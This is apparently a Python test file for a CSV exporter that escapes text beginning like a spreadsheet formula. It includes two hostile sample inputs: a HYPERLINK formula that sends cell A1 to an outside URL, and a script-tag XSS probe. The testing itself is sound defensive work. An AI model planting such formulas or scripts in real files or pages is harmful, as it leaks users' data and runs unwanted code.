"""A name is never run: not as a formula in a download, not as markup on a page."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from boundtext.safe_csv import FORMULA_STARTS, csv_text

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Elm Road Primary School")'
MARKUP = "<script>alert(1)</script> Primary School"
NAMES = pd.DataFrame(
    {"school": [FORMULA, MARKUP, "Elm Road Primary School"], "value": [-1.5, 2, 3]}
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_that_begins_like_a_formula_is_made_one_no_more(start):
    text = csv_text(pd.DataFrame({f"{start}head": [f"{start}1+1"], "other": ["a=b"]}))
    kept = start.replace("\r", "\n")
    assert cells(text) == [[f"'{kept}head", "other"], [f"'{kept}1+1", "a=b"]]


def test_numbers_and_gaps_stay_as_they_are():
    table = pd.DataFrame(
        {"a": [-1.5, None], "b": pd.array([-2, pd.NA], "Int64"), "c": [None, -3.0]}
    )
    assert csv_text(table) == "a,b,c\n-1.5,-2,\n,,-3\n"


def test_numbers_have_six_digits_beside_text_too():
    assert csv_text(pd.DataFrame({"a": [1 / 3], "b": ["x"]})) == "a,b\n0.333333,x\n"


@given(st.lists(st.text(min_size=1).filter(lambda text: "\x00" not in text), min_size=1))
def test_no_text_whatever_begins_like_a_formula(texts):
    rows = cells(csv_text(pd.DataFrame({"name": texts, "n": range(len(texts))})))
    assert len(rows) == len(texts) + 1
    assert not [row for row in rows if row and row[0].startswith(FORMULA_STARTS)]
